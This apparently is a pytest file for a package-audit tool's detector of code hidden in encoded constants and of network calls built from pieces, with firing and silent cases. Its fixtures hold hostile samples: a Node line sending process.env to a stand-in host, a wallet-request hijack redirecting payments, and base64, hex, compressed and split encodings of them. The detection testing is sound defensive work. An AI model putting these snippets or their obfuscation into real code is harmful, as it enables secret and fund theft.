"""Code in encoded constants, and what is made from pieces for own functions: each beside silent twins."""

from __future__ import annotations

import base64
import zlib

import pytest
from support.packages import analysed, contents

from audit.capabilities import mentions
from audit.model.mention import ITSELF, PACKED, PACKED_ACTS, Mentioned

NODE = (
    "const h = require('https'); h.get('https://a.invalid/?' + JSON.stringify(process.env))"
    + " " * 9
)
PAGE = (
    "self.onmessage = async (e) => { const r = await fetch(e.data); postMessage(await r.text()) }"
)
PLAIN = (
    "module.exports = (list) => list.map((each) => each * 2).filter((each) => each > 9).sort()"
    + " " * 9
)
SHELL = (
    '#!/bin/sh\nexec /usr/bin/true "$@" # aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
)
WALLET = "var w=window.ethereum,r=w.request.bind(w);w.request=function(a){a.params[0].to='0x00';return r(a)}"
OPAQUE = base64.b64encode(bytes(200 + number % 56 for number in range(120))).decode()


def b64(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def packed(text: str) -> str:
    return b64(zlib.compress(text.encode()))


def told(code: str, kind: Mentioned = Mentioned.WRITTEN, **files: str) -> list[tuple[str, str]]:
    names = {path.replace("_", "."): text for path, text in files.items()}
    found = mentions(analysed(contents({"index.js": code, **names})))
    return [(each.to, each.text) for each in found if each.mentioned is kind]


USED = f"{PACKED_ACTS}: https, process"
PIECES = ", ".join(
    f"'{packed(NODE)[start : start + 24]}'" for start in range(0, len(packed(NODE)), 24)
)
LINES = "\\\n".join(b64(NODE)[start : start + 76] for start in range(0, len(b64(NODE)), 76))
FIRING = {
    "base64": (f"save(Buffer.from('{b64(NODE)}', 'base64'))", USED),
    "hexadecimal": (f"save(Buffer.from('{NODE.encode().hex()}', 'hex'))", USED),
    "compressed": (f"save(inflateSync(Buffer.from('{packed(NODE)}', 'base64')))", USED),
    "without a head": (
        f"save(inflateRawSync(Buffer.from('{b64(zlib.compress(NODE.encode())[2:-4])}', 'base64')))",
        USED,
    ),
    "backwards": (f"save('{b64(NODE)[::-1]}')", USED),
    "in pieces": (f"save([{PIECES}].join(''))", USED),
    "over several lines": (f"save('{LINES}')", USED),
    "a script": (f"save('{b64(SHELL)}')", f"{PACKED_ACTS}: a shell"),
    "a program": (f"save('{b64(bytes([127]) + b'ELF' + bytes(90))}')", f"{PACKED_ACTS}: a program"),
    "code of a page": (f"run('{b64(PAGE)}')", f"{PACKED}: network"),
    "code for a wallet": (f"parts.push(Buffer.from('{b64(WALLET)}'))", f"{PACKED_ACTS}: a wallet"),
    "what is packed otherwise": (
        f"save(brotliDecompressSync(Buffer.from('{OPAQUE}', 'base64')))",
        f"{PACKED}: what is packed or encrypted otherwise",
    ),
}
SILENT = {
    "code without powers": f"save('{b64(PLAIN)}')",
    "a comment": f"// save('{b64(NODE)}')",
    "a picture": f"save('{OPAQUE}')",
    "a page": f"save('{b64('<!doctype html><html><body>' + 'words ' * 30 + '</body></html>')}')",
    "a key": f"createDecipheriv(a, '{b64(bytes([0x30, 0x82]) + bytes(range(128, 228)))}')",
    "a bomb's length": f"save('{packed(' ' * 3_000_000 + NODE)}')",
}  # fmt: skip


@pytest.mark.parametrize(("code", "text"), FIRING.values(), ids=FIRING)
def test_code_in_an_encoded_constant(code: str, text: str) -> None:
    assert ("", text) in told(code)


@pytest.mark.parametrize("code", SILENT.values(), ids=SILENT)
def test_no_code_in_an_encoded_constant(code: str) -> None:
    assert told(code) == []


def test_code_in_data_that_code_reads() -> None:
    code = "save(inflateSync(Buffer.from(require('./a.json').x, 'base64')))"
    assert told(code, a_json=f'{{"x": "{packed(NODE)}"}}') == [("", USED)]


HANDED = {
    "a decoded text": ("const ask = require('./ask'); ask(atob(k))", "ask"),
    "by a name": (
        "const ask = require('./ask'); const t = k.split('').reverse().join(''); ask(t)",
        "ask",
    ),
    "of a member": ("import { keys } from './lib/ask.js'; keys(home + path)", "ask"),
    "by another name": ("import { keys as k } from './ask.js'; k(`https://${home}`)", "ask"),
    "of a module": ("const a = require('./ask'); (0, a.keys)(list.map(String).join('.'))", "ask"),
    "at once": ("require('./ask').keys(home + path)", "ask"),
    "of its own": ("function ask(url) { return fetch(url) } ask(home + path)", ITSELF),
    "an arrow of its own": ("const ask = async (url, o) => fetch(url, o); ask(atob(k))", ITSELF),
}
NOT_HANDED = {
    "a name": "const ask = require('./ask'); exports.go = (url) => ask(url)",
    "a setting": "const ask = require('./ask'); exports.go = (o) => ask(o.url)",
    "a text": "const ask = require('./ask'); ask('a+b')",
    "another package": "const ask = require('ask'); ask(home + path)",
    "no address": "function add(a, b) { return a } add(c + d)",
    "a comment": "const ask = require('./ask'); // ask(atob(k))",
}


@pytest.mark.parametrize(("code", "to"), HANDED.values(), ids=HANDED)
def test_what_is_made_from_pieces_is_handed_on(code: str, to: str) -> None:
    found = told(code, Mentioned.COMPUTED, ask_js="module.exports = (url) => fetch(url)")
    assert [each for each, _ in found] == [to]


@pytest.mark.parametrize("code", NOT_HANDED.values(), ids=NOT_HANDED)
def test_nothing_made_from_pieces_is_handed_on(code: str) -> None:
    assert told(f"fetch(1); {code}", Mentioned.COMPUTED) == []
